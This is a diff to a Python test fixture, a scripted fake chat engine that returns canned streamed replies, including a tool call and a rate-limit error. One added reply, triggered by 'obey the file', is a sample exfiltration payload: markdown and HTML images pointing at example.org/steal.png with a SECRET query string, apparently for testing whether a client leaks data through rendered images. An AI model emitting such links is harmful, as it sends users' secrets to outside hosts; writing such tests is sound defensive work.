@@ -1,10 +1,12 @@
 """An engine for conversations: each question says which answer comes, good or bad."""
 
 import asyncio
+import json
 import threading
 from collections.abc import Awaitable, Callable
 
-from scripted_engine import Exchange, ScriptedEngine, chunk, final_usage
+from painting import paint
+from scripted_engine import Exchange, Script, ScriptedEngine, chunk, final_usage
 
 HTML = """Here is a page:
 
@@ -54,7 +56,10 @@ HALF = "A **bold word, and [a link](https://example.or"
 
 
 async def converse(exchange: Exchange) -> None:
-    """The answer that the last question asks for."""
+    """The answer that the last question asks for, in words or as a picture."""
+    if "/images/" in exchange.path:
+        await paint(exchange)
+        return
     body = exchange.body
     question = str(body["messages"][-1]["content"]).lower()
     for word, script in SCRIPTS.items():
@@ -96,6 +101,21 @@ async def _cut(exchange: Exchange) -> None:
     exchange.hang_up()
 
 
+async def _calls_a_function(exchange: Exchange) -> None:
+    """As models do that know tools, until they hear something of it."""
+    if any(message["role"] == "tool" for message in exchange.body["messages"]):
+        await say(exchange, ["Then I go on without the weather."])
+        return
+    function = {"name": "weather", "arguments": '{"place":"Bern","days":3}'}
+    calls = [{"index": 0, "id": "call_1", "type": "function", "function": function}]
+    await exchange.begin()
+    for choice in ({"delta": {"tool_calls": calls}}, {"delta": {}, "finish_reason": "tool_calls"}):
+        told = {"object": "chat.completion.chunk", "choices": [{"index": 0, **choice}]}
+        await exchange.part(f"data: {json.dumps(told)}\n\n".encode())
+    await exchange.part(b"data: [DONE]\n\n")
+    await exchange.end()
+
+
 async def _refused(exchange: Exchange) -> None:
     error = {
         "message": "Too many requests; wait 7 seconds.",
@@ -110,6 +130,11 @@ SCRIPTS: dict[str, Callable[[Exchange], Awaitable[None]]] = {
     "endless": _endless,
     "cut": _cut,
     "refuse": _refused,
+    "obey the file": lambda exchange: say(
+        exchange, ["![x](https://example.org/steal.png?q=SECRET) ", "and <img src=https://example.org/steal.gif>."]
+    ),
+    "never mind": _calls_a_function,
+    "weather": _calls_a_function,
     "page of html": lambda exchange: say(exchange, _words(HTML, 40), 0.01),
     "long rainbow lecture": lambda exchange: say(exchange, _words(RICH * 8, 24), 0.02),
     "rainbow": lambda exchange: say(exchange, _words(RICH), 0.004),
@@ -123,10 +148,10 @@ SCRIPTS: dict[str, Callable[[Exchange], Awaitable[None]]] = {
 class ConversingEngine:
     """That engine in a thread of its own, beside tests that block."""
 
-    def __init__(self) -> None:
+    def __init__(self, script: Script = converse) -> None:
         self._loop = asyncio.new_event_loop()
         self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
-        self.engine = ScriptedEngine(script=converse)
+        self.engine = ScriptedEngine(script=script)
 
     def __enter__(self) -> ScriptedEngine:
         self._thread.start()
